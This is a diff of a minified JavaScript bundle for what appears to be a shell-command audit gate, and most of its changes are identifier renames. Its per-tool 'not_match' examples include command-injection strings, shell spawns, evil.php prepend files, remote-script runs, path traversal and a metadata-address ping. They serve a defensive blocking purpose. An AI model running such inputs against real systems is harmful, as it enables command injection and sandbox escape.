+word:B}:d===void 0?{offered:""}:{offered:d,word:B}}function DO(n,e){const t=e.slice(n.span.start,n.span.end);return is(n,
+"target-missing")&&/^[^'"\s\\]*\\[^'"\s]*$/.test(t)?{...n,args:{...n.args,written:t}}:n}function xO(n,e){const t=new Set(
 n.map(Eh)),s=[...n];for(const r of e){const i=Eh(r);t.has(i)||(t.add(i),s.push(r))}return s}function Eh({rule:n,span:e,args:t}){
-return JSON.stringify([n,e.start,e.end,t])}const kO=sn(import.meta.url)("node:timers/promises"),vh=null;async function eF(n,e){
+return JSON.stringify([n,e.start,e.end,t])}const OO=sn(import.meta.url)("node:timers/promises"),vh=null;async function rF(n,e){
 const t=new AbortController,s=()=>{for(const o of vh)process.off(o,r)},r=()=>{s(),t.abort()};let i=!1;process.once("exit",
 ()=>{i||(process.exitCode=n)}),process.once("uncaughtException",o=>{const{code:c,message:l,hint:B}=asGateError(o),d=c===
 "internal"?`${o.stack}
 `:"";process.stderr.write(`error: ${l}
 hint: ${B}
-${d}`),i=!1,process.exit(n)});for(const o of vh)process.on(o,r);try{await e(t.signal),i=!0}finally{s()}}const DO={wholeMs:3e5,
-scriptsMs:6e4},xO=50,OO=5e3;class AO{#e;#t;#s=0;#i=0;#r=Lr();#n=Lr();#a=Promise.resolve();constructor(e,t={}){this.#e=e,
-this.#t={...DO,...t}}tick(){const e=this.#a.then(()=>this.#u());return this.#a=e.catch(()=>{}),e}async tickScript(){this.#i+=
+${d}`),i=!1,process.exit(n)});for(const o of vh)process.on(o,r);try{await e(t.signal),i=!0}finally{s()}}const AO={wholeMs:3e5,
+scriptsMs:6e4},SO=50,TO=5e3;class IO{#e;#t;#s=0;#i=0;#r=jr();#n=jr();#a=Promise.resolve();constructor(e,t={}){this.#e=e,
+this.#t={...AO,...t}}tick(){const e=this.#a.then(()=>this.#u());return this.#a=e.catch(()=>{}),e}async tickScript(){this.#i+=
 this.#o(),await this.tick();const{scriptsMs:e}=this.#t;return this.#i>e?e/1e3:void 0}async all(e,t){const s=await Promise.
-all(e.map(async r=>(await this.tick(),t(r))));return await this.tick(),s}async#u(){this.#o(),Lr()-this.#n>xO&&(await(0,kO.
-setImmediate)(),this.#n=Lr());const{wholeMs:e}=this.#t;if(this.#e?.aborted)throw(0,Fi.VM)("during the audit");if(this.#s>
-e)throw SO(e)}#o(){const e=Lr(),t=Math.min(e-this.#r,OO);return this.#r=e,this.#s+=t,t}}function SO(n){return new Fi.ue(
+all(e.map(async r=>(await this.tick(),t(r))));return await this.tick(),s}async#u(){this.#o(),jr()-this.#n>SO&&(await(0,OO.
+setImmediate)(),this.#n=jr());const{wholeMs:e}=this.#t;if(this.#e?.aborted)throw(0,Pi.VM)("during the audit");if(this.#s>
+e)throw $O(e)}#o(){const e=jr(),t=Math.min(e-this.#r,TO);return this.#r=e,this.#s+=t,t}}function $O(n){return new Pi.ue(
 "audit_too_long",`The audit takes more than ${n/1e3} seconds, which is the limit of a whole audit.`,"Split the change, o\
-r reduce the number and length of its commands and npm scripts.")}function Lr(){return process.uptime()*1e3}const TO={path:"\
-node_modules",at:"anywhere"},kh={dot:!0,nonegate:!0};function Dh(n=[],e=[TO]){const t=n.flatMap(o=>ft(o)||[]),s=t.length>
-0?Ua(t,kh):()=>!1,r=o=>e.some(c=>c.at!=="home"&&(o===c.path||c.at==="anywhere"&&o.endsWith(`/${c.path}`))),i=(o,c)=>c(o)||
-ya(o).some(c);return{cover:o=>i(o,r)||i(o,s),areBuilt:o=>i(o,s)&&!i(o,r),mayBeIn:o=>t.some(c=>xh(c.split("/"),o.split("/")))}}
-function tF(n){const{cover:e}=Dh([],n);return{cover:()=>!0,areBuilt:t=>!e(t),mayBeIn:()=>!1}}function xh([n,...e],[t,...s]){
-return n===void 0?!1:t===void 0||n.includes("**")||/[{(]/.test(n)?!0:Ua.isMatch(t,n,kh)&&xh(e,s)}function nF(n,e,t){const s=c=>n.
+r reduce the number and length of its commands and npm scripts.")}function jr(){return process.uptime()*1e3}const RO={path:"\
+node_modules",at:"anywhere"},kh={dot:!0,nonegate:!0};function Dh(n=[],e=[RO]){const t=n.flatMap(o=>ft(o)||[]),s=t.length>
+0?Za(t,kh):()=>!1,r=o=>e.some(c=>c.at!=="home"&&(o===c.path||c.at==="anywhere"&&o.endsWith(`/${c.path}`))),i=(o,c)=>c(o)||
+ba(o).some(c);return{cover:o=>i(o,r)||i(o,s),areBuilt:o=>i(o,s)&&!i(o,r),mayBeIn:o=>t.some(c=>xh(c.split("/"),o.split("/")))}}
+function iF(n){const{cover:e}=Dh([],n);return{cover:()=>!0,areBuilt:t=>!e(t),mayBeIn:()=>!1}}function xh([n,...e],[t,...s]){
+return n===void 0?!1:t===void 0||n.includes("**")||/[{(]/.test(n)?!0:Za.isMatch(t,n,kh)&&xh(e,s)}function oF(n,e,t){const s=c=>n.
 stat(c)===void 0&&(t.cover(c)||t.mayBeIn(c))&&foldersAbove(c).every(l=>(n.stat(l)?.kind??"directory")==="directory"),r=new Map,
 i=c=>(r.has(c)||r.set(c,e.stat(c)),r.get(c)),o=c=>{if(!s(c))return n.stat(c);const l=i(c),B=t.cover(c)||l?.kind==="direc\
 tory";if(!(!l||!B))return{...l,tracked:!1,...t.areBuilt(c)&&{built:!0}}};return{label:n.label,...n.attributes&&{attributes:n.
 attributes},stat:o,readlink:c=>(s(c)?e:n).readlink(c),read:(c,l)=>(s(c)?e:n).read(c,l),list:c=>{const l=e.list(c).flatMap(
-({path:B})=>(s(B)?o(B):void 0)??[]);return[...n.list(c),...l].sort(byEntryPath)},files:()=>n.files()}}const IO="warnings\
-|clippy::~|rustdoc::~|unused~|dead_code|deprecated~|missing~|unsafe~|nonstandard_style",$O={flags:{text:"exact ignored i\
-nclude-ignored nocapture quiet,q show-output skip= test-threads=","only-prints":"list"}},Oh={operands:"text",behind:$O,flags:{
-"skips-tests":"no-run"}},RO={risk:"write",alone:"only-prints",flags:{text:`
+({path:B})=>(s(B)?o(B):void 0)??[]);return[...n.list(c),...l].sort(byEntryPath)},files:()=>n.files()}}const NO="warnings\
+|clippy::~|rustdoc::~|unused~|dead_code|deprecated~|missing~|unsafe~|nonstandard_style",FO={flags:{text:"exact ignored i\
+nclude-ignored nocapture quiet,q show-output skip= test-threads=","only-prints":"list"}},Oh={operands:"text",behind:FO,flags:{
+"skips-tests":"no-run"}},PO={risk:"write",alone:"only-prints",flags:{text:`
       color= frozen locked offline quiet,q verbose,v all all-features all-targets bench? benches bin? bins doc
       example? examples exclude= F,features= jobs,j= keep-going lib message-format= no-default-features no-deps
       no-fail-fast package,p? profile= release,r target? test? tests workspace
@@ -4848,7 +4851,7 @@ help","uses-network":"install uninstall add remove update fetch vendor init new 
 package clean fix"},subcommands:{"test,t,bench":Oh,"build,b,check,c,run,r":{operands:"text"},"doc,d":{operands:"text",flags:{
 text:"document-private-items","outside-code":"open"}},clippy:{operands:"text",flags:{"tool-writes":"fix allow-dirty allo\
 w-staged allow-no-vcs"},behind:{flags:{text:"no-deps",choice:["D","W","A","F","deny","warn","allow","forbid"].map(n=>`${n}\
-=${IO}`).join(" ")}}},fmt:{unless:{"tool-writes":"check"},flags:{text:"check edition=",config:"config-path="},behind:{flags:{
+=${NO}`).join(" ")}}},fmt:{unless:{"tool-writes":"check"},flags:{text:"check edition=",config:"config-path="},behind:{flags:{
 text:"check edition= quiet,q verbose,v",config:"config-path="}}},"nextest run":{...Oh,flags:{text:"E,filterset= retries=\
  test-threads= partition=","skips-tests":"no-run no-tests="}}},directory_flags:["-C"],settings:[".cargo/config.toml",".c\
 argo/config","rust-toolchain.toml","rust-toolchain"],build_files:["Cargo.toml","build.rs","clippy.toml","rustfmt.toml"],
@@ -4857,7 +4860,7 @@ t",at:"home"},{path:".cargo/registry",at:"home"},{path:".rustup",at:"home",varia
 true",CARGO_TERM_COLOR:"never",RUSTUP_AUTO_INSTALL:"0"},match:["cargo test --workspace --all-features name -- --nocaptur\
 e --test-threads=1","cargo clippy --all-targets -- -D warnings","cargo fmt --all -- --check","cargo run -- --version"],not_match:[
 "cargo --config build.rustc-wrapper=./x test","cargo +nightly test","cargo clippy -- -Clinker=./x","cargo fmt -- --emit \
-files","cargo test -- --logfile /tmp/x"]},NO={risk:"write",alone:"only-prints",flags:{text:"a asan cover covermode= cove\
+files","cargo test -- --logfile /tmp/x"]},LO={risk:"write",alone:"only-prints",flags:{text:"a asan cover covermode= cove\
 rpkg= json mod= msan p= race tags= trimpath v work x",path:"C=",config:"modfile= overlay=",output:"o=","outside-code":"e\
 xec=","only-prints":"n h help"},refused:{"only-prints":"list version doc help","uses-network":"get install bug","outside\
 -code":"env generate tool work telemetry","writes-files":"clean fix"},subcommands:{test:{operands:"import",flags:{text:"\
@@ -4869,7 +4872,7 @@ graph why help","uses-network":"download edit init vendor"}},"mod verify":{},"mo
 text:"diff"}}},directory_flags:["-C"],build_files:["go.mod","go.work","go.env"],dependencies:[{path:"vendor",at:"anywher\
 e"},{path:"go/pkg/mod",at:"home",variable:"GOMODCACHE"}],environment:{GOPROXY:"off",GOTOOLCHAIN:"local",GOTELEMETRY:"off",
 GOENV:"off",GOVCS:"*:off"},match:['go test -race -run "TestA|TestB" ./pkg/...',"go test ./... -args -x","go mod verify"],
-not_match:["go test --exec ./x ./...","go run example.com/x@latest","go test -ldflags=-extldflags=-fuse-ld=x ./..."]},FO={
+not_match:["go test --exec ./x ./...","go run example.com/x@latest","go test -ldflags=-extldflags=-fuse-ld=x ./..."]},jO={
 extensions:"js mjs cjs jsx ts mts cts tsx",starts:"script-tool-or-file",alone:"only-prints",flags:{text:`
       bail bun,b concurrency= conditions= coverage coverage-reporter= filter,F= if-present no-install
       only-failures randomize reporter= rerun-each= retry= seed= silent smol test-name-pattern,t= timeout=
@@ -4887,7 +4890,7 @@ test:{operands:"tests"},run:{starts:"script-tool-or-file",alone:"only-prints"}},
 {path:".bun/install/cache",at:"home",variable:"BUN_INSTALL_CACHE_DIR"}],environment:{BUN_CONFIG_NO_INSTALL:"1",DO_NOT_TRACK:"\
 1",BUN_RUNTIME_TRANSPILER_CACHE_PATH:"0"},match:["bun test src/a.test.ts --bail","bun lint","bun run --filter a test","b\
 un scripts/check.ts"],not_match:["bun --eval 1","bun test --preload ../x.ts","bun run ../x.ts","bun ci/e.sh","bun ci/x.w\
-asm"]},PO={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"file",alone:"reads-stdin",flags:{text:`
+asm"]},MO={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"file",alone:"reads-stdin",flags:{text:`
       allow-all,A allow-read,R allow-write,W allow-net,N allow-env,E allow-sys,S allow-run allow-ffi
       deny-read deny-write deny-net deny-env deny-sys deny-run deny-ffi no-prompt cached-only check
       no-check no-remote no-npm no-lock frozen quiet,q seed= ignore= parallel fail-fast shuffle filter=
@@ -4905,7 +4908,7 @@ flags:{"outside-code":"eval",path:"cwd="}}},build_files:["deno.json","deno.jsonc
 anywhere"},{path:"vendor",at:"root"},{path:".cache/deno",at:"home",variable:"DENO_DIR"}],environment:{DENO_NO_UPDATE_CHECK:"\
 1",DENO_NO_PROMPT:"1",DENO_NO_PACKAGE_JSON:"0"},match:["deno test --allow-read=/tmp --allow-write=/tmp","deno fmt --chec\
 k","deno task test"],not_match:["deno test --allow-ffi=/tmp/x.so tests","deno run npm:cowsay","deno run x.sh","deno x.wa\
-sm"]},LO={risk:"write",operands:"text",completes:!0,flags:{text:`
+sm"]},GO={risk:"write",operands:"text",completes:!0,flags:{text:`
       B,always-make b debug? d j,jobs? k,keep-going l,load-average,max-load? m output-sync,O?
       no-print-directory,w print-directory no-keep-going,stop,S R,no-builtin-variables r,no-builtin-rules
       s,silent,quiet no-silent shuffle? trace warn-undefined-variables
@@ -4916,7 +4919,7 @@ blish publish-~ deploy deploy-~ release upload","writes-files":"uninstall","neve
 variables:["V","VERBOSE"],directory_flags:["-C","--directory"],build_files:["Makefile","makefile","GNUmakefile","*.mk","\
 CMakeLists.txt","configure"],environment:{MAKEFLAGS:"",GNUMAKEFLAGS:"",MAKEFILES:""},match:["make","make -C packages/a t\
 est","make -j4 check V=1","make -f build/Makefile test"],not_match:["make test SHELL:=./x",'make test ARGS="; id"',"make\
- -I ../x test","make test CC=-x"]},jO={risk:"safe",starts:"script-or-tool",alone:"only-prints",flags:{text:`
+ -I ../x test","make test CC=-x"]},HO={risk:"safe",starts:"script-or-tool",alone:"only-prints",flags:{text:`
       aggregate-output color,no-color filter,F= filter-prod= if-present include-workspace-root loglevel=
       no-bail no-sort bail parallel recursive,r reporter= reporter-hide-prefix sequential silent,s sort
       stream w workspace-concurrency= workspace-root
@@ -4935,7 +4938,7 @@ workspace.yaml",".pnpmfile.cjs",".pnpmfile.mjs"],dependencies:[{path:"node_modul
 false",npm_config_package_manager_strict:"false",npm_config_verify_deps_before_run:"false",pnpm_config_verify_deps_before_run:"\
 false",COREPACK_ENABLE_NETWORK:"0",COREPACK_ENABLE_STRICT:"0",COREPACK_ENABLE_PROJECT_SPEC:"0"},match:["pnpm lint --max-\
 warnings 0","pnpm --filter a... test","pnpm vitest run --coverage"],not_match:['pnpm exec sh -c "id"',"pnpm --config.scr\
-ipt-shell=./x test","pnpm exec tsx -e 1"]},MO={starts:"script-or-tool",alone:"uses-network",flags:{text:`
+ipt-shell=./x test","pnpm exec tsx -e 1"]},zO={starts:"script-or-tool",alone:"uses-network",flags:{text:`
       frozen-lockfile json mutex= no-progress non-interactive offline silent,s verbose top-level,T
       binaries-only,B include= exclude= from= jobs,j= interlaced,i parallel,p topological,t topological-dev
       recursive,R worktree,W since? all,A no-private
@@ -4956,7 +4959,7 @@ e"},{path:".pnp.cjs",at:"root"},{path:".pnp.loader.mjs",at:"root"},{path:".yarn"
 home"}],environment:{YARN_ENABLE_NETWORK:"0",YARN_ENABLE_TELEMETRY:"0",YARN_ENABLE_GLOBAL_CACHE:"1",COREPACK_ENABLE_NETWORK:"\
 0",COREPACK_ENABLE_STRICT:"0",COREPACK_ENABLE_PROJECT_SPEC:"0"},match:["yarn lint --max-warnings 0","yarn workspace a ru\
 n test","yarn jest --ci"],not_match:["yarn","yarn exec bash","yarn --cwd ../x test","yarn --use-yarnrc x test"]},Ah=[{path:"\
-vendor",at:"anywhere"}],GO={starts:"file",extensions:"php",alone:"reads-stdin",flags:{choice:"d=display_errors=~|display\
+vendor",at:"anywhere"}],UO={starts:"file",extensions:"php",alone:"reads-stdin",flags:{choice:"d=display_errors=~|display\
 _startup_errors=~|error_reporting=~|memory_limit=~|max_execution_time=~|date.timezone=~|assert.exception=1|zend.assertio\
 ns=1|xdebug.mode=off|xdebug.mode=coverage|pcov.enabled=1","checks-syntax-only":"l,syntax-check","outside-code":"r,run= c\
 ,php-ini=","reads-stdin":"a,interactive","only-prints":"i,info m,modules ini s,syntax-highlight w,strip"},dependency_tools:[
@@ -4965,7 +4968,7 @@ eck.php","php bin/console lint:yaml config","php -l src/a.php","php vendor/bin/p
 punit/phpunit/phpunit -c phpunit.xml"],not_match:["php",'php -r "echo 1;"',"php -d auto_prepend_file=evil.php x.php","ph\
 p -dauto_prepend_file=evil.php x.php","php -c evil.ini x.php","php -S localhost:80","php -f x.php","php scripts/x.sh","p\
 hp tool.phar","php https://x.test/y.php","php vendor/bin/phpunit --bootstrap ../x.php","php vendor/bin/phpunit --unknown"]},
-HO={operands:"tests",flags:{text:`
+JO={operands:"tests",flags:{text:`
       testsuite= exclude-testsuite= group= exclude-group= filter= exclude-filter= test-suffix=
       process-isolation stop-on-defect stop-on-error stop-on-failure stop-on-warning fail-on-warning
       fail-on-risky fail-on-deprecation fail-on-notice fail-on-skipped fail-on-incomplete
@@ -4979,18 +4982,18 @@ s":"do-not-fail-on-empty-test-suite do-not-fail-on-warning do-not-fail-on-risky 
 tes list-groups list-tests list-tests-xml= atleast-version= check-version"},settings:["vendor"],build_files:["phpunit.xm\
 l","phpunit.xml.dist","phpunit.dist.xml","composer.json"],dependencies:Ah,match:["phpunit","phpunit --colors=never --fil\
 ter testA tests/ATest.php"],not_match:["phpunit --bootstrap=../x.php","phpunit -c /etc/x.xml","phpunit --extension X"]},
-zO="conftest.py pytest.toml .pytest.toml pytest.ini .pytest.ini pyproject.toml tox.ini setup.cfg setup.py sitecustomize.\
-py usercustomize.py".split(" "),jr=[{path:".venv",at:"anywhere"},{path:"venv",at:"anywhere"},{path:"__pypackages__",at:"\
-root"},{path:".local/bin",at:"home"},{path:".local/lib",at:"home"},{path:".pyenv",at:"home",variable:"PYENV_ROOT"}],oo={
-PYTHONDONTWRITEBYTECODE:"1",PYTHONNOUSERSITE:"0",PIP_NO_INDEX:"1",PIP_DISABLE_PIP_VERSION_CHECK:"1"},UO={programs:["pyth\
+ZO="conftest.py pytest.toml .pytest.toml pytest.ini .pytest.ini pyproject.toml tox.ini setup.cfg setup.py sitecustomize.\
+py usercustomize.py".split(" "),Mr=[{path:".venv",at:"anywhere"},{path:"venv",at:"anywhere"},{path:"__pypackages__",at:"\
+root"},{path:".local/bin",at:"home"},{path:".local/lib",at:"home"},{path:".pyenv",at:"home",variable:"PYENV_ROOT"}],co={
+PYTHONDONTWRITEBYTECODE:"1",PYTHONNOUSERSITE:"0",PIP_NO_INDEX:"1",PIP_DISABLE_PIP_VERSION_CHECK:"1"},WO={programs:["pyth\
 on","python3"],starts:"file",extensions:"py",alone:"reads-stdin",flags:{text:"b B d E I P q R s S u v W=",choice:"X=dev|\
 utf8|utf8=1|importtime","outside-code":"x c+",weakens:"O OO",module:"m+","reads-stdin":"i","only-prints":"help,h version\
 ,V help-all help-env help-xoptions ?"},started_programs:["pytest","ruff","mypy"],build_files:["sitecustomize.py","usercu\
-stomize.py"],dependencies:jr,environment:oo,match:["python3 scripts/check.py --strict","python -m pytest -q tests","pyth\
+stomize.py"],dependencies:Mr,environment:co,match:["python3 scripts/check.py --strict","python -m pytest -q tests","pyth\
 on -B -W error scripts/check.py","python -X dev -Xutf8 -X importtime scripts/check.py","python -m py_compile scripts/che\
 ck.py"],not_match:['python -Ic "print(1)"',"python -","python -m pip install x","python -X presite=evil scripts/check.py",
 "python -Xfrozen_modules=off scripts/check.py","python scripts/x.sh","python tool.pyz","python -m py_compile -","python \
--m py_compile ../x.py","python https://x.test/y.py"]},JO={operands:"tests",flags:{text:`
+-m py_compile ../x.py","python https://x.test/y.py"]},KO={operands:"tests",flags:{text:`
       assert= cache-show? capture= color= deselect= doctest-continue-on-failure doctest-glob= doctest-modules
       durations= durations-min= exitfirst,x failed-first,ff full-trace import-mode= k= l showlocals
       last-failed,lf last-failed-no-failures,lfnf= log-cli-level= log-level= m= maxfail= new-first,nf
@@ -5006,10 +5009,10 @@ ck.py"],not_match:['python -Ic "print(1)"',"python -","python -m pip install x",
     `,module:"p= ds= W,pythonwarnings=",path:"rootdir= confcutdir= cov-source=",config:"config-file,c= cov-config=",output:"\
 basetemp= junitxml= log-file= report-log= html= debug? benchmark-json= json-report-file=","reads-stdin":"pdb trace","onl\
 y-prints":"help,h version,V co,collect-only fixtures,funcargs fixtures-per-test markers setup-only setup-plan","tool-wri\
-tes":"cache-clear snapshot-update benchmark-save= benchmark-autosave",weakens:"suppress-no-test-exit-code"},build_files:zO,
-dependencies:jr,environment:{...oo,PYTEST_ADDOPTS:""},match:["pytest -q tests/test_a.py::test_b","pytest -p no:cacheprov\
+tes":"cache-clear snapshot-update benchmark-save= benchmark-autosave",weakens:"suppress-no-test-exit-code"},build_files:ZO,
+dependencies:Mr,environment:{...co,PYTEST_ADDOPTS:""},match:["pytest -q tests/test_a.py::test_b","pytest -p no:cacheprov\
 ider","pytest --cov=src --cov-report=term-missing"],not_match:["pytest -o addopts=-x","pytest --tx popen//python=sh","py\
-test --junitxml=../x.xml","pytest @args.txt"]},ZO={alone:"only-prints",flags:{text:`
+test --junitxml=../x.xml","pytest @args.txt"]},qO={alone:"only-prints",flags:{text:`
       check color= diff exclude= exit-non-zero-on-fix exit-non-zero-on-format extend-exclude= extend-ignore=
       extend-select= fixable= force-exclude ignore= ignore-noqa isolated line-length= no-cache,n
       output-format= per-file-ignores= preview quiet,q respect-gitignore select= silent,s statistics
@@ -5018,8 +5021,8 @@ test --junitxml=../x.xml","pytest @args.txt"]},ZO={alone:"only-prints",flags:{te
 er-ends":"watch,w","reads-stdin":"stdin-filename=",weakens:"exit-zero,e","only-prints":"help,h version,V show-files show\
 -settings"},refused:{"only-prints":"rule config linter version help analyze","writes-files":"clean","never-ends":"server"},
 subcommands:{check:{},format:{unless:{"tool-writes":"check diff"}}},build_files:["ruff.toml",".ruff.toml","pyproject.tom\
-l"],dependencies:jr,environment:{RUFF_NO_CACHE:"true"},match:["ruff check","ruff check src --select E","ruff format --ch\
-eck","ruff check --fix"],not_match:["ruff check --watch","ruff check ../x","ruff clean","ruff nonsense"]},WO={completes:!0,
+l"],dependencies:Mr,environment:{RUFF_NO_CACHE:"true"},match:["ruff check","ruff check src --select E","ruff format --ch\
+eck","ruff check --fix"],not_match:["ruff check --watch","ruff check ../x","ruff clean","ruff nonsense"]},YO={completes:!0,
 flags:{text:`
       allow-redefinition always-false= always-true= cache-fine-grained check-untyped-defs color-output
       disable-error-code= disallow-any-explicit disallow-any-expr disallow-any-generics
@@ -5034,9 +5037,9 @@ flags:{text:`
     `,path:"cache-dir= custom-typing-module= custom-typeshed-dir=",config:"config-file=",output:"cobertura-xml-report= h\
 tml-report= linecount-report= txt-report= xml-report= junit-xml=","outside-code":"command,c=","uses-network":"interactiv\
 e","reads-stdin":"pdb","only-prints":"find-occurrences= stats"},build_files:["mypy.ini",".mypy.ini","pyproject.toml","se\
-tup.cfg"],dependencies:jr,environment:{...oo,MYPY_FORCE_COLOR:"0"},match:["mypy src","mypy --strict src","mypy -p packag\
+tup.cfg"],dependencies:Mr,environment:{...co,MYPY_FORCE_COLOR:"0"},match:["mypy src","mypy --strict src","mypy -p packag\
 e --no-incremental","mypy"],not_match:['mypy -c "1"',"mypy --python-executable=./x src","mypy --config-file=/etc/x src"]},
-KO={extensions:"py",alone:"only-prints",flags:{text:`
+VO={extensions:"py",alone:"only-prints",flags:{text:`
       active all-extras all-groups all-packages check exact extra= frozen group= isolated locked no-cache,n
       no-config no-default-groups no-dev no-editable no-env-file no-project no-sync offline only-dev
       only-group= package= prerelease= quiet,q resolution= verbose,v dev
@@ -5045,18 +5048,18 @@ module,m+","uses-network":"with,w=","only-prints":"help,h version,V show-setting
       sync add remove pip venv init tool x export python self cache auth workspace publish
     `,"writes-files":"build version format","only-prints":"tree help generate-shell-completion"},subcommands:{run:{starts:"\
 program",alone:"only-prints"},lock:{unless:{"tool-writes":"check locked dry-run"}}},started_programs:["pytest","ruff","m\
-ypy","python","python3"],directory_flags:["--directory"],build_files:["pyproject.toml","uv.toml"],dependencies:[...jr,{path:"\
+ypy","python","python3"],directory_flags:["--directory"],build_files:["pyproject.toml","uv.toml"],dependencies:[...Mr,{path:"\
 .cache/uv",at:"home",variable:"UV_CACHE_DIR"},{path:".local/share/uv/python",at:"home"},{path:".local/share/uv/tools",at:"\
-home"}],environment:{...oo,UV_OFFLINE:"1",UV_NO_PROGRESS:"1",UV_PYTHON_DOWNLOADS:"never"},match:["uv run scripts/check.p\
+home"}],environment:{...co,UV_OFFLINE:"1",UV_NO_PROGRESS:"1",UV_PYTHON_DOWNLOADS:"never"},match:["uv run scripts/check.p\
 y","uv run --frozen python -m pytest","uv lock --check"],not_match:["uv run sh -c id","uv run pytest -o addopts=x","uv r\
 un https://x.test/y.py","uv run -","uv run ci/e.sh","uv run ci/e.PY.sh","uv run ./e.zip"]},Sh={warnings:["archive_extrac\
-tion_overwrite"]},Th={warnings:["archive_creation_overwrite"]},qO={curated:{tar:{risk:"write",forms:{"-tf {archive}":{risk:"\
+tion_overwrite"]},Th={warnings:["archive_creation_overwrite"]},QO={curated:{tar:{risk:"write",forms:{"-tf {archive}":{risk:"\
 safe"},"-xf {archive} -C {destination}":Sh,"-czf {archive} {source...}":Th},match:["tar -tf a.tar","tar -xf a.tar -C out",
 "tar -czf a.tgz src docs"],not_match:["tar -czf a.tgz .","tar -xf a.tar -C /usr/local/","tar -tf host:a.tar"]},unzip:{risk:"\
 write",forms:{"-l {archive}":{risk:"safe"},"{archive} -d {destination}":Sh},match:["unzip -l a.zip","unzip a.zip -d out"],
 not_match:["unzip a.zip","unzip -o a.zip -d out","unzip a.zip -d out/../../../etc"]},zip:{risk:"write",forms:{"-r {archi\
 ve} {source...}":Th},match:["zip -r a.zip src"],not_match:["zip a.zip src","zip -r a.zip","zip -r a.zip src/.."]}}},Ih={
-dangerous_targets:["/"],operands:"text path..."},YO={curated:{cd:{operands:"path?",default_operand:"~",match:["cd src"],
+dangerous_targets:["/"],operands:"text path..."},XO={curated:{cd:{operands:"path?",default_operand:"~",match:["cd src"],
 not_match:["cd a b"]},chmod:{...Ih,risk:"write",match:["chmod u+x a"],not_match:["chmod -R 644 a"]},chown:{...Ih,risk:"d\
 angerous",match:["chown me a"],not_match:["chown -R me a"]},cp:{risk:"write",flags:{text:"R n p"},operands:"path path...",
 match:["cp -R a b"],not_match:["cp a","cp -f a b"]},file:{flags:{text:"b"},operands:"input...",match:["file -b a"],not_match:[
@@ -5078,28 +5081,28 @@ ytes literal numeric-uid-gid quote-name reverse recursive size",pattern:"I= igno
 o|always|never indicator-style?=none|slash|file-type|classify sort?=none|size|time|version|extension|name|width time?=at\
 ime|access|use|ctime|status|mtime|modification|birth|creation time-style?=full-iso|long-iso|iso|locale format?=across|co\
 mmas|horizontal|long|single-column|verbose|vertical"},default_operand:".",match:["ls","ls -ltrh src","ls --color=auto","\
-ls --sort=time src","ls --all"],not_match:["ls --color src","ls https://host.test","ls --sort=x","ls --force"]}}},ao={text:"\
+ls --sort=time src","ls --all"],not_match:["ls --color src","ls https://host.test","ls --sort=x","ls --force"]}}},uo={text:"\
 w cached staged check exit-code name-only name-status numstat quiet shortstat stat no-color",count:"U= unified=",choice:"\
-color?=auto|always|never"},VO={...ao,text:`${ao.text} p S= G= all decorate first-parent follow graph merges no-merges on\
+color?=auto|always|never"},eA={...uo,text:`${uo.text} p S= G= all decorate first-parent follow graph merges no-merges on\
 eline patch reverse
-    after= author= before= committer= date= format= grep= pretty= since= until=`,count:`${ao.count} n= max-count= skip=`},
-QO={both:{git:{subcommands:{status:{flags:{text:"b s branch long porcelain short"}},diff:{flags:ao},log:{flags:VO}},curated:{
+    after= author= before= committer= date= format= grep= pretty= since= until=`,count:`${uo.count} n= max-count= skip=`},
+tA={both:{git:{subcommands:{status:{flags:{text:"b s branch long porcelain short"}},diff:{flags:uo},log:{flags:eA}},curated:{
 risk:"dangerous",forms:{"status --short":{risk:"safe"},"branch --show-current":{risk:"safe"},"log --oneline -n {count:1-\
 100}":{risk:"safe"},"diff --stat":{risk:"safe"},"diff --name-only":{risk:"safe"}}},match:["git status --short","git log \
 --oneline -n 100"],not_match:["git","git push","git -c core.pager=sh log","git diff --ext-diff"]}}},$h={network_touching:!0,
-forms:{"{domain}":{}}},XO={curated:{curl:{network_touching:!0,forms:{"-I {url}":{}},match:["curl -I https://host.test"],
+forms:{"{domain}":{}}},nA={curated:{curl:{network_touching:!0,forms:{"-I {url}":{}},match:["curl -I https://host.test"],
 not_match:["curl -I http://localhost","curl -I http://a:b@host.test"]},dig:{...$h,match:["dig host.test"],not_match:["di\
 g","dig @192.0.2.1 host.test"]},nslookup:{...$h,match:["nslookup host.test"],not_match:["nslookup https://host.test"]},ping:{
 network_touching:!0,forms:{"-c {count:1-10} {host}":{}},match:["ping -c 1 host.test","ping -c 3 2001:db8::5"],not_match:[
 "ping -c 11 host.test","ping -c 1 127.0.0.1","ping -c 1 169.254.169.254"]}}},Rh={operands:"package...",network_touching:!0,
-warnings:["writes_files"]},eA={workspace:{"apt-get":{flags:{text:"y yes"},operands:"",subcommands:{update:{network_touching:!0},
+warnings:["writes_files"]},sA={workspace:{"apt-get":{flags:{text:"y yes"},operands:"",subcommands:{update:{network_touching:!0},
 install:Rh},match:["apt-get update","apt-get install -y jq"],not_match:["apt-get install ./x.deb","apt-get install -o x=\
 y jq","apt-get remove jq"]}}},Nh={flags:{text:"q quiet v verbose U upgrade user no-deps pre force-reinstall no-cache-dir\
  disable-pip-version-check outdated y format="},operands:"package*",subcommands:{list:{},show:{},freeze:{},check:{},install:Rh}},
-tA={workspace:{pip:{...Nh,match:["pip list","pip install --force-reinstall x"],not_match:["pip install ../x","pip instal\
+rA={workspace:{pip:{...Nh,match:["pip list","pip install --force-reinstall x"],not_match:["pip install ../x","pip instal\
 l git+https://x/y","pip"]},pip3:{...Nh,match:["pip3 list"],not_match:["pip3 install ../x"]},python3:{forms:{"--version":{},
 "-V":{},"--help":{},"{script} {argument*}":{risk:"write"}},match:["python3 tool.py --verbose","python3 --version"],not_match:[
-'python3 -c "print(1)"',"python3 -m http.server","python3","python3 -"]}}},nA={curated:{clear:{operands:"",match:["clear"],
+'python3 -c "print(1)"',"python3 -m http.server","python3","python3 -"]}}},iA={curated:{clear:{operands:"",match:["clear"],
 not_match:["clear -x"]},lsof:{flags:{text:"a n P c= p="},match:["lsof -nP"],not_match:["lsof -t x"]},man:{operands:"page\
  page?",match:["man 1 ls"],not_match:["man -P sh ls","man ./x"]},open:{flags:{text:"R"},operands:"path...",forbidden_prefixes:[
 "http:","https:","ftp:","mailto:"],platforms:["darwin"],match:["open notes.md","open -R notes.md"],not_match:["open http\
@@ -5114,7 +5117,7 @@ int-type total"},curated:{flags:{text:"h"}},match:["df -h"],not_match:["df --out
 lude="},default_operand:".",curated:{flags:{text:"a c h k s x",count:"d="}},match:["du -sh src","du -d 1"],not_match:["d\
